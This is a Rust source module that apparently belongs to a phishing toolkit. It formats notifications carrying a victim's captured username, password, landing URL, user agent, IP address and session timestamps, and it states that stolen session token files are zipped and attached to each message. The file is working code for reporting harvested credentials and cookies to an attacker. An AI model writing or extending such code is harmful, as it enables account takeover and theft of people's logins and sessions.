//! Human-readable session summary sent as the text body of every notification.
//!
//! Only descriptive fields are rendered. Token maps travel exclusively inside the
//! archive, so a notification preview never exposes cookie material.

use crate::session::Session;
use crate::text::single_line;

/// Render the fixed notification template for `session`.
pub fn format_session_message(session: &Session) -> String {
    format!(
        "✨ Session Information ✨\n\
         \n\
         👤 Username:       ➖ {}\n\
         🔑 Password:       ➖ {}\n\
         🌐 Landing URL:    ➖ {}\n\
         \n\
         🖥️ User Agent:     ➖ {}\n\
         🌍 Remote Address: ➖ {}\n\
         🕒 Create Time:    ➖ {}\n\
         🕔 Update Time:    ➖ {}\n\
         \n\
         📦 Token files are zipped and attached separately in this message.\n",
        session.username,
        session.password,
        session.landing_url,
        session.user_agent,
        session.remote_addr,
        session.create_time,
        session.update_time,
    )
}

/// Same template with every captured field escaped onto one line, for log output.
pub fn format_for_log(session: &Session) -> String {
    let escaped = Session {
        username: single_line(&session.username),
        password: single_line(&session.password),
        landing_url: single_line(&session.landing_url),
        user_agent: single_line(&session.user_agent),
        remote_addr: single_line(&session.remote_addr),
        create_time: session.create_time,
        update_time: session.update_time,
        ..Session::default()
    };
    format_session_message(&escaped)
}
